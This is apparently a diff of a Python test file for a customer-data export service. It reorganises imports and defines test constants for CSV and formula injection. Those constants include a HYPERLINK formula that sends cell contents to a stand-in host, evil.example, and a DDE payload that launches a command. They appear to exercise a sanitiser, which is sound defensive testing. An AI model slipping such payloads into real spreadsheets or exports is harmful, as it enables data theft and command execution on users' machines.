@@ -20,12 +20,12 @@ from app.models import Customer, Grid, Policy, Specialist, Task, Team
 from app.services.exports import resolve_scope
 from app.services.exports.detail import write_detail
 from app.services.exports.meeting import write_meeting_workbook
-from app.services.inert import csv_value, is_risky
+from app.services.files.inert import csv_value, is_risky
+from app.services.files.table_file import TableData, write_table
 from app.services.intake.sms import SpecialistContact, agent_change_text, specialist_change_text
 from app.services.metrics.formatting import render_persistency
 from app.services.metrics.persistency import persistency_report
 from app.services.periods import Period
-from app.services.table_file import TableData, write_table
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
